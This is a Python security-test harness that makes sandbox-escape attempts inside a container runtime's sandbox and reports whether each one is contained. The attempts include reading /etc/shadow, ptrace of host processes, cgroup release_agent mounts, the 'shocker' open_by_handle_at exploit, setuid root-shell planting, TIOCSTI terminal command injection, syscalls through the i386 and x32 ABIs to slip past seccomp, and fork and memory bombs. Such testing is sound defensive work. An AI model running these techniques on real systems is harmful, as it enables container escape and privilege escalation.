#!/usr/bin/env python3
"""Sandbox-escape attempts, run INSIDE `husk exec --sandbox` by integration/tests/security.rs.

    python3 escape.py ATTACK [ARGS...]

Each attack prints JSON lines on stdout: one per try, {"try": what, "ok": bool, "errno": "ENAME" or
null, "value": ...}, and facts, {"fact": name, "value": ...}. The test decides what counts as
contained; this file only attacks and reports. Raw syscalls go through ctypes (x86_64 numbers).
Where an attack would do harm if it wrongly succeeded, it is made harmless: writes put back the
current value (or the test restores it), files opened for writing are not written, a module to
remove does not exist, accounting is switched off again, kill(-1) runs only as pid 1 of a new pid
namespace, nothing is rebooted or crashed.
"""
import ctypes
import errno
import hashlib
import json
import os
import signal
import socket
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

NR = {
    "ptrace": 101, "syslog": 103, "pivot_root": 155, "adjtimex": 159, "chroot": 161,
    "acct": 163, "settimeofday": 164, "mount": 165, "umount2": 166, "swapoff": 168,
    "sethostname": 170, "setdomainname": 171, "iopl": 172, "ioperm": 173, "init_module": 175,
    "delete_module": 176, "quotactl": 179, "add_key": 248, "request_key": 249, "keyctl": 250,
    "kexec_load": 246, "clone": 56, "shmget": 29, "msgget": 68, "unshare": 272,
    "perf_event_open": 298, "prlimit64": 302, "name_to_handle_at": 303,
    "open_by_handle_at": 304, "clock_adjtime": 305, "setns": 308, "process_vm_readv": 310,
    "finit_module": 313, "bpf": 321, "userfaultfd": 323, "io_uring_setup": 425,
    "open_tree": 428, "fsopen": 430, "pidfd_open": 434, "clone3": 435, "fchmodat": 268, "fchmodat2": 452,
}


def out(**kv):
    print(json.dumps(kv), flush=True)


def fact(name, value):
    out(fact=name, value=value)


def attempt(what, fn, *args):
    """Runs fn(*args); reports ok (and its value) or the errno."""
    try:
        v = fn(*args)
    except OSError as e:
        name = errno.errorcode.get(e.errno, str(e.errno)) if e.errno else "E?"
        out(**{"try": what, "ok": False, "errno": name, "value": str(e)})
        return None
    if not isinstance(v, (int, str, bool, list, type(None))):
        v = repr(v)
    out(**{"try": what, "ok": True, "errno": None, "value": v})
    return v


def sc(name, *args):
    """A raw syscall; ints become longs, bytes and ctypes objects are passed as pointers."""
    conv = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    r = libc.syscall(ctypes.c_long(NR[name]), *conv)
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def addr(buf):
    return ctypes.addressof(buf)


# --- network ---------------------------------------------------------------------------------


def target(spec):
    """'1.2.3.4:80' or '[::1]:80' -> (family, (host, port))."""
    host, _, port = spec.rpartition(":")
    if host.startswith("["):
        return socket.AF_INET6, (host[1:-1], int(port))
    return socket.AF_INET, (host, int(port))


def net_tcp(*targets):
    for spec in targets:
        fam, a = target(spec)

        def connect():
            with socket.socket(fam, socket.SOCK_STREAM) as s:
                s.settimeout(3)
                s.connect(a)
                s.sendall(b"escaped\n")
                return "connected"

        attempt("tcp connect " + spec, connect)


def net_udp(*targets):
    for spec in targets:
        fam, a = target(spec)

        def send():
            with socket.socket(fam, socket.SOCK_DGRAM) as s:
                s.sendto(b"escaped\n", a)
                return "sent"

        attempt("udp sendto " + spec, send)


def dns_query(name):
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00" + struct.pack(">HH", 1, 1)


def net_dns(name, *servers):
    try:
        got = socket.getaddrinfo(name, 80)
        out(**{"try": "getaddrinfo " + name, "ok": True, "errno": None, "value": str(got)})
    except socket.gaierror as e:
        out(**{"try": "getaddrinfo " + name, "ok": False, "errno": "EAI", "value": str(e)})
    fact("resolv.conf", open("/etc/resolv.conf").read() if os.path.exists("/etc/resolv.conf")
         else None)
    for spec in servers:
        fam, a = target(spec)

        def query():
            with socket.socket(fam, socket.SOCK_DGRAM) as s:
                s.settimeout(1)
                s.sendto(dns_query(name), a)
                try:
                    return "answer %d bytes" % len(s.recv(512))
                except socket.timeout:
                    raise OSError(errno.ETIMEDOUT, "sent, no answer")

        attempt("dns query %s to %s" % (name, spec), query)


def net_unix(abstract, *paths):
    def connect(a):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.connect(a)
            s.sendall(b"escaped\n")
            return "connected"

    attempt("unix connect @" + abstract, connect, "\0" + abstract)
    for p in paths:
        attempt("unix connect " + p, connect, p)


def net_raw():
    attempt("socket(AF_PACKET, SOCK_RAW)", lambda: socket.socket(
        socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close())
    attempt("socket(AF_INET, SOCK_RAW, ICMP)", lambda: socket.socket(
        socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
    import fcntl
    ifreq = struct.pack("16sH14s", b"lo", 1, b"")  # IFF_UP

    def lo_up():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            fcntl.ioctl(s, 0x8914, ifreq)  # SIOCSIFFLAGS

    attempt("ioctl(SIOCSIFFLAGS, lo up)", lo_up)
    addr_req = struct.pack("16sH2s4s8s", b"lo", socket.AF_INET, b"", socket.inet_aton("10.9.9.9"),
                           b"")

    def set_addr():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            fcntl.ioctl(s, 0x8916, addr_req)  # SIOCSIFADDR

    attempt("ioctl(SIOCSIFADDR, lo 10.9.9.9)", set_addr)
    fact("interfaces", sorted(os.listdir("/sys/class/net")))


# --- host files and processes ----------------------------------------------------------------


def read_host(marker):
    try:
        data = open("/etc/shadow", "rb").read()
        out(**{"try": "read /etc/shadow", "ok": True, "errno": None,
               "value": hashlib.sha256(data).hexdigest()})
    except OSError as e:
        out(**{"try": "read /etc/shadow", "ok": False, "errno": errno.errorcode[e.errno],
               "value": str(e)})
    fact("HOME", os.environ.get("HOME"))
    for d in ["/root", "/home"]:
        attempt("list " + d, lambda d=d: sorted(os.listdir(d)))
    found = []
    for top, dirs, files in os.walk("/"):
        if top in ("/proc", "/sys", "/dev"):
            dirs[:] = []
            continue
        found += [os.path.join(top, f) for f in files + dirs if marker in f]
    fact("marker_found", found)


def proc_host(host_pid):
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    fact("pids", pids)
    fact("pid1_cmdline", open("/proc/1/cmdline").read().replace("\0", " ").strip())
    attempt("read /proc/%s/cmdline (the test's pid on the host)" % host_pid,
            lambda: open("/proc/%s/cmdline" % host_pid).read())
    for p in ["/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug",
              "/proc/latency_stats", "/proc/timer_stats"]:
        attempt("read " + p, lambda p=p: len(open(p, "rb").read(4096)))
    for p in ["/proc/acpi", "/proc/scsi"]:
        attempt("list " + p, lambda p=p: os.listdir(p))
    kallsyms = open("/proc/kallsyms").readline().split()
    fact("kallsyms_first_address", kallsyms[0] if kallsyms else None)


def host_procs(marker):
    seen = []
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != os.getpid():
            try:
                c = open("/proc/%s/cmdline" % p, "rb").read()
            except OSError:
                continue
            if marker.encode() in c:
                seen.append(c.decode(errors="replace"))
    fact("marker_seen", seen)
    alive = []
    for pid in range(1, 1 << 16):
        try:
            os.kill(pid, 0)
            alive.append(pid)
        except ProcessLookupError:
            pass
        except PermissionError:
            alive.append(pid)
    fact("kill0_alive", alive)
    fact("own_pid", os.getpid())


def signal_host(host_pid):
    host_pid = int(host_pid)
    attempt("kill(%d, SIGKILL) (host process)" % host_pid, os.kill, host_pid, signal.SIGKILL)
    attempt("pidfd_open(%d)" % host_pid, sc, "pidfd_open", host_pid, 0)
    attempt("kill(-%d, SIGKILL) (its process group)" % host_pid, os.kill, -host_pid,
            signal.SIGKILL)
    if os.getpid() != 1:
        # Not the init of a new pid namespace: kill(-1) would reach the host. Report, do not.
        out(**{"try": "kill(-1, SIGKILL) from a child", "ok": False, "errno": "NOT-IN-A-PID-NS",
               "value": "refused to run: pid %d" % os.getpid()})
        return
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.kill(-1, signal.SIGKILL)
            os.write(w, b"ok")
        except OSError as e:
            os.write(w, errno.errorcode[e.errno].encode())
        os._exit(0)
    os.waitpid(pid, 0)
    res = os.read(r, 64).decode()
    out(**{"try": "kill(-1, SIGKILL) from a child", "ok": res == "ok",
           "errno": None if res == "ok" else res, "value": res})
    fact("survived_own_kill_all", True)


def ptrace_host(host_pid):
    host_pid = int(host_pid)
    attempt("ptrace(PTRACE_ATTACH, %d)" % host_pid, sc, "ptrace", 16, host_pid, 0, 0)
    attempt("ptrace(PTRACE_SEIZE, %d)" % host_pid, sc, "ptrace", 0x4206, host_pid, 0, 0)
    buf = ctypes.create_string_buffer(64)
    iov = (ctypes.c_ulong * 2)(addr(buf), 64)
    riov = (ctypes.c_ulong * 2)(0x400000, 64)
    attempt("process_vm_readv(%d)" % host_pid, sc, "process_vm_readv", host_pid, iov, 1, riov,
            1, 0)
    attempt("open /proc/%d/mem" % host_pid, lambda: os.close(os.open(
        "/proc/%d/mem" % host_pid, os.O_RDWR)))


def exe_overwrite():
    attempt("open /proc/self/exe O_WRONLY", lambda: os.close(os.open("/proc/self/exe",
                                                                    os.O_WRONLY)))
    real = os.path.realpath("/proc/self/exe")
    attempt("open %s O_WRONLY (the interpreter)" % real, lambda: os.close(os.open(real,
                                                                               os.O_WRONLY)))
    fd = os.open("/proc/self/exe", os.O_RDONLY)
    attempt("reopen /proc/self/fd/%d O_WRONLY" % fd, lambda: os.close(os.open(
        "/proc/self/fd/%d" % fd, os.O_WRONLY)))
    os.close(fd)
    for p in os.listdir("/proc"):
        if p.isdigit() and p != str(os.getpid()):
            attempt("open /proc/%s/exe O_WRONLY" % p, lambda p=p: os.close(os.open(
                "/proc/%s/exe" % p, os.O_WRONLY)))
    fact("exe", real)


def leaked_fds():
    fds = []
    for n in range(0, 1024):
        try:
            os.fstat(n)
            fds.append(n)
        except OSError:
            pass
    fact("open_fds", fds)
    fact("targets", {str(n): os.readlink("/proc/self/fd/%d" % n) for n in fds})
    attempt("openat(fd 3, '..')", lambda: os.close(os.open("..", os.O_RDONLY, dir_fd=3)))


def suid(*paths):
    import subprocess
    for p in paths:
        try:
            r = subprocess.run([p], capture_output=True, timeout=10)
            rep = json.loads(r.stdout.decode().splitlines()[0])
            fact("exec " + p, {"uid": rep["uid"], "euid": rep["euid"],
                               "effective": rep["caps"]["effective"]["names"],
                               "permitted": rep["caps"]["permitted"]["names"],
                               "no_new_privs": rep["no_new_privs"]})
        except Exception as e:  # noqa: BLE001 (reported, the test fails on a missing fact)
            fact("exec " + p, "failed: %s" % e)
    fact("caller", {"uid": os.getuid(), "euid": os.geteuid()})
    for line in open("/proc/self/mountinfo"):
        f = line.split()
        if f[4] == "/workspace":
            fact("workspace_mount", f[5])


# --- syscalls --------------------------------------------------------------------------------


def keyctl():
    attempt("add_key(user, session keyring)", sc, "add_key", b"user", b"husk-escape", b"secret",
            6, -3)
    attempt("keyctl(JOIN_SESSION_KEYRING)", sc, "keyctl", 1, b"husk-escape", 0, 0, 0)
    attempt("keyctl(GET_KEYRING_ID, user keyring)", sc, "keyctl", 0, -4, 0, 0, 0)
    attempt("request_key(user)", sc, "request_key", b"user", b"husk-escape", 0, 0)


def bpf():
    attr = ctypes.create_string_buffer(128)
    struct.pack_into("IIII", attr, 0, 2, 4, 4, 1)  # BPF_MAP_TYPE_ARRAY, key 4, value 4, 1 entry
    attempt("bpf(BPF_MAP_CREATE)", sc, "bpf", 0, attr, 128)
    insns = ctypes.create_string_buffer(struct.pack("<BBhi", 0xb7, 0, 0, 0) +
                                        struct.pack("<BBhi", 0x95, 0, 0, 0))  # r0 = 0; exit
    lic = ctypes.create_string_buffer(b"GPL")
    attr = ctypes.create_string_buffer(128)
    struct.pack_into("IIQQ", attr, 0, 1, 2, addr(insns), addr(lic))  # SOCKET_FILTER
    attempt("bpf(BPF_PROG_LOAD, socket filter)", sc, "bpf", 5, attr, 128)
    attr = ctypes.create_string_buffer(128)
    struct.pack_into("IIQQ", attr, 0, 2, 2, addr(insns), addr(lic))  # KPROBE
    attempt("bpf(BPF_PROG_LOAD, kprobe)", sc, "bpf", 5, attr, 128)


def perf():
    attr = ctypes.create_string_buffer(128)
    struct.pack_into("IIQ", attr, 0, 1, 128, 0)  # PERF_TYPE_SOFTWARE, size, CPU_CLOCK
    attempt("perf_event_open(own process)", sc, "perf_event_open", attr, 0, -1, -1, 0)
    attempt("perf_event_open(every process, cpu 0)", sc, "perf_event_open", attr, -1, 0, -1, 0)
    struct.pack_into("IIQ", attr, 0, 2, 128, 0)  # PERF_TYPE_TRACEPOINT
    attempt("perf_event_open(tracepoint)", sc, "perf_event_open", attr, -1, 0, -1, 0)


def modules():
    image = ctypes.create_string_buffer(b"\x7fELF" + b"\0" * 60)
    attempt("init_module(ELF image)", sc, "init_module", image, 64, b"")
    fd = os.open("/bin/sh", os.O_RDONLY)
    attempt("finit_module(fd of /bin/sh)", sc, "finit_module", fd, b"", 0)
    os.close(fd)
    attempt("delete_module(husk_no_such_module)", sc, "delete_module", b"husk_no_such_module",
            os.O_NONBLOCK)
    attempt("write /proc/sys/kernel/modprobe", lambda: open("/proc/sys/kernel/modprobe", "w"))
    fact("kernel_modules_visible", os.path.exists("/proc/modules"))


def mounts():
    before = open("/proc/self/mountinfo").read()
    os.makedirs("/tmp/m", exist_ok=True)
    attempt("mount tmpfs on /tmp/m", sc, "mount", b"none", b"/tmp/m", b"tmpfs", 0, None)
    attempt("mount -o remount,rw /", sc, "mount", None, b"/", None, 32 | 4096 | 0x20000, None)
    attempt("mount -o remount,rw / (plain)", sc, "mount", None, b"/", None, 32, None)
    attempt("mount --bind /workspace /tmp/m", sc, "mount", b"/workspace", b"/tmp/m", None, 4096,
            None)
    attempt("mount proc on /tmp/m", sc, "mount", b"proc", b"/tmp/m", b"proc", 0, None)
    attempt("mount cgroup (release_agent) on /tmp/m", sc, "mount", b"cgroup", b"/tmp/m",
            b"cgroup", 0, b"rdma,release_agent=/workspace/x")
    attempt("umount2 /proc/kcore (unmask)", sc, "umount2", b"/proc/kcore", 2)
    attempt("umount2 /proc/sys (unmask)", sc, "umount2", b"/proc/sys", 2)
    attempt("fsopen(tmpfs)", sc, "fsopen", b"tmpfs", 0)
    attempt("open_tree(/, OPEN_TREE_CLONE)", sc, "open_tree", -100, b"/", 1)
    fact("mountinfo_unchanged", before == open("/proc/self/mountinfo").read())


def namespaces():
    flags = [("CLONE_NEWUSER", 0x10000000), ("CLONE_NEWNS", 0x20000),
             ("CLONE_NEWNET", 0x40000000), ("CLONE_NEWPID", 0x20000000),
             ("CLONE_NEWUTS", 0x04000000), ("CLONE_NEWIPC", 0x08000000),
             ("CLONE_NEWCGROUP", 0x02000000), ("CLONE_NEWTIME", 0x80)]
    for name, f in flags:
        attempt("unshare(%s)" % name, sc, "unshare", f)

    def clone_userns():
        pid = sc("clone", 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        return pid

    attempt("clone(CLONE_NEWUSER)", clone_userns)
    args = ctypes.create_string_buffer(88)
    struct.pack_into("QQ", args, 0, 0x10000000, 0)
    attempt("clone3(CLONE_NEWUSER)", sc, "clone3", args, 88)
    for ns in sorted(os.listdir("/proc/self/ns")):
        fd = os.open("/proc/self/ns/" + ns, os.O_RDONLY)
        attempt("setns(/proc/self/ns/%s)" % ns, sc, "setns", fd, 0)
        os.close(fd)
    fact("user_ns", os.readlink("/proc/self/ns/user"))


def rlimits():
    import resource
    names = {"RLIMIT_NOFILE": 7, "RLIMIT_CORE": 4, "RLIMIT_FSIZE": 1, "RLIMIT_NPROC": 6,
             "RLIMIT_DATA": 2}
    for name, res in names.items():
        soft, hard = resource.getrlimit(res)
        if hard == resource.RLIM_INFINITY:
            fact(name, "unlimited")
            continue
        new = (ctypes.c_uint64 * 2)(hard * 2 + 1, hard * 2 + 1)
        attempt("prlimit64(%s, hard %d -> %d)" % (name, hard, hard * 2 + 1), sc, "prlimit64", 0,
                res, new, None)
        fact(name, list(resource.getrlimit(res)))


def fork_bomb(seconds):
    fact("pidns", os.readlink("/proc/self/ns/pid"))
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
    deadline = time.time() + float(seconds)
    most = 0
    while time.time() < deadline:
        most = max(most, sum(1 for p in os.listdir("/proc") if p.isdigit()))
        time.sleep(0.02)
    fact("max_processes", most)

    def fork_now():
        pid = os.fork()
        if pid == 0:
            os._exit(0)
        return pid

    attempt("fork() by pid 1 during the bomb", fork_now)
    os._exit(0)


def memory_bomb(max_mb):
    held = []
    try:
        for i in range(int(max_mb) // 8):
            held.append(b"\x01" * (8 << 20))
            print(json.dumps({"fact": "allocated_mb", "value": (i + 1) * 8}), flush=True)
    except MemoryError:
        fact("stopped_by", "MemoryError")
        return
    fact("stopped_by", None)


def core_dump():
    import resource
    fact("RLIMIT_CORE", list(resource.getrlimit(resource.RLIMIT_CORE)))
    new = (ctypes.c_uint64 * 2)(1 << 30, 1 << 30)
    attempt("prlimit64(RLIMIT_CORE, 1G)", sc, "prlimit64", 0, 4, new, None)
    attempt("open /proc/sys/kernel/core_pattern O_WRONLY",
            lambda: os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)))
    pid = os.fork()
    if pid == 0:
        os.abort()
    _, status = os.waitpid(pid, 0)
    fact("child_signal", os.WTERMSIG(status) if os.WIFSIGNALED(status) else None)
    fact("core_dumped", os.WCOREDUMP(status))
    fact("core_files", [f for f in os.listdir(".") if f.startswith("core")])


def clock():
    now = time.clock_gettime(time.CLOCK_REALTIME)
    attempt("clock_settime(CLOCK_REALTIME, now)", time.clock_settime, time.CLOCK_REALTIME, now)
    tv = (ctypes.c_long * 2)(int(time.time()), 0)
    attempt("settimeofday(now)", sc, "settimeofday", tv, None)
    tx = ctypes.create_string_buffer(208)
    if attempt("adjtimex(read)", sc, "adjtimex", tx) is not None:
        struct.pack_into("I", tx, 0, 0x0002)  # ADJ_FREQUENCY, the frequency just read
        attempt("adjtimex(ADJ_FREQUENCY, unchanged)", sc, "adjtimex", tx)
        attempt("clock_adjtime(CLOCK_REALTIME, ADJ_FREQUENCY)", sc, "clock_adjtime", 0, tx)
    attempt("open /dev/rtc0", lambda: os.close(os.open("/dev/rtc0", os.O_RDWR)))


def kernel_interfaces():
    buf = ctypes.create_string_buffer(4096)
    attempt("syslog(READ_ALL) (dmesg)", sc, "syslog", 3, buf, 4096)
    attempt("kexec_load(0 segments)", sc, "kexec_load", 0, 0, None, 0)
    attempt("iopl(3)", sc, "iopl", 3)
    attempt("ioperm(0x80, 1, on)", sc, "ioperm", 0x80, 1, 1)
    attempt("swapoff(/workspace/none)", sc, "swapoff", b"/workspace/none")
    if attempt("acct(/workspace/acct)", sc, "acct", b"/workspace/acct") is not None:
        sc("acct", None)  # switch the (host-wide) accounting off again
    attempt("quotactl(Q_SYNC)", sc, "quotactl", 0x800001, None, 0, None)
    attempt("io_uring_setup(1)", sc, "io_uring_setup", 1, ctypes.create_string_buffer(120))
    attempt("userfaultfd(0)", sc, "userfaultfd", 0)


def shocker():
    """CVE-2014 Docker 'shocker': open_by_handle_at with a guessed handle of the host's root."""
    handle = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("Ii", handle, 0, 128, 0)
    mount_id = ctypes.c_int(0)
    attempt("name_to_handle_at(/workspace)", sc, "name_to_handle_at", -100, b"/workspace",
            handle, ctypes.byref(mount_id), 0)
    guess = ctypes.create_string_buffer(8 + 8)
    struct.pack_into("IiII", guess, 0, 8, 1, 2, 0)  # FILEID_INO32_GEN, inode 2 (an fs root)
    fd = os.open("/workspace", os.O_RDONLY)
    attempt("open_by_handle_at(inode 2)", sc, "open_by_handle_at", fd, guess, os.O_RDONLY)
    os.close(fd)


def ipc(key):
    key = int(key)
    attempt("shmget(host key %d)" % key, sc, "shmget", key, 0, 0)
    attempt("msgget(host key %d)" % key, sc, "msgget", key, 0)
    fact("sysvipc_shm", open("/proc/sysvipc/shm").read().splitlines()[1:])


def setid_files():
    """Plant a setuid-root (as root) executable in the workspace, i.e. on the host."""
    import shutil
    shell = "/workspace/rootshell"
    shutil.copyfile("/usr/local/bin/husk-probe", shell)
    attempt("chmod(rootshell, 04755)", os.chmod, shell, 0o4755)
    attempt("chmod(rootshell, 02755)", os.chmod, shell, 0o2755)
    fd = os.open(shell, os.O_RDONLY)
    attempt("fchmod(rootshell, 04755)", os.fchmod, fd, 0o4755)
    os.close(fd)
    dfd = os.open("/workspace", os.O_RDONLY)
    attempt("fchmodat(rootshell, 06755)", sc, "fchmodat", dfd, b"rootshell", 0o6755, 0)
    attempt("fchmodat2(rootshell, 04755)", sc, "fchmodat2", dfd, b"rootshell", 0o4755, 0)
    os.close(dfd)
    attempt("control: chmod(rootshell, 0700)", os.chmod, shell, 0o700)
    fd = os.open("/workspace/created", os.O_CREAT | os.O_WRONLY, 0o4755)
    os.write(fd, b"\x7fELF")
    os.close(fd)
    if attempt("mknod(made, S_IFREG|04755)",
               lambda: os.mknod("/workspace/made", 0o104755) or "made") is not None:
        fd = os.open("/workspace/made", os.O_WRONLY)
        os.write(fd, b"\x7fELF")
        os.close(fd)
    attempt("mkdir(sgid-dir, 02755)", os.mkdir, "/workspace/sgid-dir", 0o2755)
    fact("modes", {f: oct(os.lstat("/workspace/" + f).st_mode) for f in sorted(os.listdir(
        "/workspace"))})


def tty_inject():
    """Type a command into the caller's terminal (husk's stdin) for the shell to run afterwards."""
    import fcntl
    import termios
    fact("isatty", os.isatty(0))

    def inject():
        for c in b"id\n":
            fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))
        return "injected"

    attempt("ioctl(0, TIOCSTI, 'id\\n')", inject)
    attempt("ioctl(0, TIOCSCTTY, steal)", fcntl.ioctl, 0, termios.TIOCSCTTY, 1)
    attempt("ioctl(0, TIOCSTI, 'id\\n') after TIOCSCTTY", inject)
    fact("session", os.getsid(0))


def i386_call(nr, arg):
    """Syscall `nr` of the 32-bit ABI (int 0x80) with one argument, from 64-bit code."""
    import mmap
    code = bytes([0x53, 0xB8]) + nr.to_bytes(4, "little") + bytes(
        [0x89, 0xFB, 0xCD, 0x80, 0x5B, 0xC3])  # push rbx; mov eax, nr; mov ebx, edi; int 0x80
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    fn = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(
        ctypes.addressof(ctypes.c_char.from_buffer(page)))
    r = fn(arg)
    if r < 0:
        raise OSError(-r, os.strerror(-r))
    return r


def i386_call2(nr, a, b):
    """Syscall `nr` of the 32-bit ABI (int 0x80) with two arguments (the third is 0), from 64-bit
    code."""
    import mmap
    # push rbx; mov eax, nr; mov ebx, edi; mov ecx, esi; xor edx, edx; int 0x80; pop rbx; ret
    code = bytes([0x53, 0xB8]) + nr.to_bytes(4, "little") + bytes(
        [0x89, 0xFB, 0x89, 0xF1, 0x31, 0xD2, 0xCD, 0x80, 0x5B, 0xC3])
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    fn = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint)(
        ctypes.addressof(ctypes.c_char.from_buffer(page)))
    r = fn(a, b)
    if r < 0:
        raise OSError(-r, os.strerror(-r))
    return r


def low_words(*words):
    """A buffer below 4 GiB (MAP_32BIT) holding 32-bit words: an i386 pointer argument."""
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                          ctypes.c_int, ctypes.c_long]
    p = libc.mmap(None, 4096, 0x3, 0x02 | 0x20 | 0x40, -1, 0)  # RW, PRIVATE|ANON|32BIT
    if p in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "mmap MAP_32BIT")
    (ctypes.c_uint32 * len(words)).from_address(p)[:] = words
    return p


def vsock_other_abis():
    """AF_VSOCK sockets through every syscall ABI. No namespace covers vsock: a socket reaches the
    host's (hypervisor's) port space. The sandbox's rule is "socket, unless AF_VSOCK"; on i386 the
    socket calls also go through socketcall(2), whose arguments are in memory a filter cannot
    read. Sockets are only created and closed, never connected."""
    AF_INET, AF_VSOCK, SOCK_STREAM, SYS_SOCKET = 2, 40, 1, 1
    pid = os.fork()
    if pid == 0:
        os._exit(0 if i386_call(20, 0) > 0 else 1)  # getpid
    _, status = os.waitpid(pid, 0)
    ia32 = os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0
    fact("ia32", ia32)

    def native(nr, family):
        r = libc.syscall(ctypes.c_long(nr), ctypes.c_long(family), ctypes.c_long(SOCK_STREAM),
                         ctypes.c_long(0))
        if r == -1:
            e = ctypes.get_errno()
            raise OSError(e, os.strerror(e))
        os.close(r)

    attempt("control: x86_64 socket(AF_INET)", native, 41, AF_INET)
    attempt("x86_64 socket(AF_VSOCK)", native, 41, AF_VSOCK)
    attempt("x32 socket(AF_VSOCK)", native, 0x40000000 + 41, AF_VSOCK)
    if ia32:
        attempt("control: i386 socket(AF_INET)", lambda: os.close(i386_call2(359, AF_INET,
                                                                                SOCK_STREAM)))
        attempt("i386 socket(AF_VSOCK)", lambda: os.close(i386_call2(359, AF_VSOCK,
                                                                        SOCK_STREAM)))
        args = low_words(AF_VSOCK, SOCK_STREAM, 0)
        attempt("i386 socketcall(SYS_SOCKET, AF_VSOCK)",
                lambda: os.close(i386_call2(102, SYS_SOCKET, args)))


def other_abis():
    """Blocked syscalls through the i386 (int 0x80) and x32 ABIs: a filter that only knew
    x86_64 numbers would let them through."""
    pid = os.fork()
    if pid == 0:
        os._exit(0 if i386_call(20, 0) > 0 else 1)  # getpid
    _, status = os.waitpid(pid, 0)
    ia32 = os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0
    fact("ia32", ia32)
    calls = [("unshare(CLONE_NEWUSER)", 310, 272, 0x10000000), ("mount", 21, 165, 0),
             ("keyctl", 288, 250, 0), ("bpf", 357, 321, 0), ("perf_event_open", 336, 298, 0),
             ("init_module", 128, 175, 0), ("setns", 346, 308, 0),
             ("open_by_handle_at", 342, 304, 0), ("kexec_load", 283, 246, 0)]
    if ia32:
        attempt("control: i386 getpid", i386_call, 20, 0)
        for name, nr32, _, arg in calls:
            attempt("i386 %s" % name, i386_call, nr32, arg)
    for name, _, nr64, arg in calls:
        def x32(nr=nr64, arg=arg):
            r = libc.syscall(ctypes.c_long(0x40000000 + nr), ctypes.c_long(arg), ctypes.c_long(0),
                             ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0))
            if r == -1:
                e = ctypes.get_errno()
                raise OSError(e, os.strerror(e))
            return r
        attempt("x32 %s" % name, x32)


def proc_self_knobs():
    for f, data in [("oom_score_adj", "-1000"), ("uid_map", "0 0 4294967295"),
                    ("gid_map", "0 0 4294967295"), ("setgroups", "allow"), ("loginuid", "0")]:
        def write(f=f, data=data):
            fd = os.open("/proc/self/" + f, os.O_WRONLY)
            try:
                return os.write(fd, data.encode())
            finally:
                os.close(fd)
        attempt("write /proc/self/%s" % f, write)
    fact("oom_score_adj", open("/proc/self/oom_score_adj").read().strip())


def timeout_double_fork(marker):
    fact("pidns", os.readlink("/proc/self/ns/pid"))
    if os.fork() == 0:
        if os.fork() == 0:
            for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(s, signal.SIG_IGN)
            while True:
                time.sleep(0.1)
        os._exit(0)
    os.wait()
    fact("daemonized", True)
    while True:
        time.sleep(1)


def timeout_setsid(marker):
    fact("pidns", os.readlink("/proc/self/ns/pid"))
    r, w = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(s, signal.SIG_IGN)
            libc.prctl(15, b"kworker/0:1", 0, 0, 0)  # PR_SET_NAME: look like a kernel thread
            os.write(w, b"x")
            while True:
                time.sleep(0.1)
        os._exit(0)
    os.read(r, 1)
    fact("detached", True)
    # pid 1 returns at once: the detached session must die with the pid namespace.


ATTACKS = {f.__name__: f for f in [
    net_tcp, net_udp, net_dns, net_unix, net_raw, read_host, proc_host, host_procs, signal_host,
    ptrace_host, exe_overwrite, leaked_fds, suid, keyctl, bpf, perf, modules, mounts, namespaces,
    rlimits, fork_bomb, memory_bomb, core_dump, clock, kernel_interfaces, shocker, ipc, setid_files,
    tty_inject, other_abis, vsock_other_abis, proc_self_knobs,
    timeout_double_fork, timeout_setsid]}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*sys.argv[2:])
